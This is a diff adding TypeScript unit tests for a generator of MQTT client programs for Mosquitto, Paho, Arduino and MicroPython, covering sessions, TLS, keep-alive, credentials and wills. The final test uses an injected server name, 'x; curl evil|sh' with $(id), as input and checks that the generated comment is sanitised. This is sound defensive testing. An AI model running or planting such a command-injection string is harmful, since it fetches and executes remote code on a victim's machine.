@@ -105,3 +105,66 @@ describe('programs', () => {
     );
   });
 });
+
+describe('a connection', () => {
+  const program = (target: Parameters<typeof makeProgram>[0], more: Parameters<typeof newProfile>[0]) =>
+    makeProgram(target, {
+      connection: programConnection(newProfile({ host: 'h', clientId: 'c1', ...more }), 'SECRET'),
+    }).code;
+
+  it('says to Mosquitto’s clients how long its session is kept', () => {
+    const five = { mqttVersion: '5.0' } as const;
+    expect(program('mosquitto', { ...five, clean: false, sessionExpiryInterval: 0 })).toContain('-c -x 0');
+    expect(program('mosquitto', { ...five, clean: true, sessionExpiryInterval: 60 })).toMatch(/ -x 60 /);
+    const nameless = program('mosquitto', { ...five, clean: false, clientId: '' });
+    expect(nameless).not.toContain(' -c ');
+    expect(nameless).toContain('without a client ID');
+    expect(program('mosquitto', { mqttVersion: '3.1.1', clean: false })).not.toContain('-x');
+  });
+
+  it('says what Mosquitto’s clients do check', () => {
+    const tls = newTls({ verify: false });
+    expect(program('mosquitto', { protocol: 'mqtts', tls })).toContain('the check of the host name only');
+    expect(program('paho', { protocol: 'mqtts', tls })).toContain('is not verified');
+  });
+
+  it('without keep alive goes as far as its target can', () => {
+    expect(program('arduino', { keepAlive: 0 })).toContain('client.setKeepAlive(65535);');
+    expect(program('arduino', { keepAlive: 0 })).toContain('cannot do without');
+    expect(program('micropython', { keepAlive: 0 })).not.toContain('ping');
+    expect(program('micropython', { keepAlive: 60 })).toContain('>= 30:');
+  });
+
+  it('gives umqtt its sign-in as it takes one', () => {
+    const user = program('micropython', { username: 'ü', passwordRef: 'p' });
+    expect(user).toContain('user=b"\\xc3\\xbc"');
+    expect(user).toContain('password=b"SECRET"');
+    expect(program('micropython', { username: '', passwordRef: 'p' })).toContain('password is left out');
+  });
+
+  it('leaves a will out that the app would not leave either', () => {
+    const { will } = newProfile();
+    const set = { ...will, enabled: true, topic: 'gone' };
+    expect(program('mosquitto', { will: set })).toContain('--will-topic gone');
+    const readOnly = program('mosquitto', { will: set, guard: 'readOnly' });
+    expect(readOnly).not.toContain('--will');
+    expect(readOnly).toContain('read-only');
+    const wrong = program('mosquitto', { will: { ...set, topic: 'a/#' } });
+    expect(wrong).not.toContain('--will');
+    expect(wrong).toContain('its topic is not valid');
+  });
+
+  it('holds no password that its sign-in does not use', () => {
+    const credentials = { kind: 'azureX509', deviceId: 'd', moduleId: '' } as const;
+    expect(program('mosquitto', { credentials, passwordRef: 'left' })).not.toContain('SECRET');
+  });
+
+  it('has nothing in its notes that a shell would run', () => {
+    const tls = newTls({ serverName: 'x; curl evil|sh $(id) `id` #' });
+    const [note = ''] = program('mosquitto', { protocol: 'mqtts', tls })
+      .split('\n')
+      .filter((line) => line.includes('curl'));
+    expect(note).toMatch(/^# /);
+    expect(note).not.toMatch(/[;|$`()]/);
+  });
+});
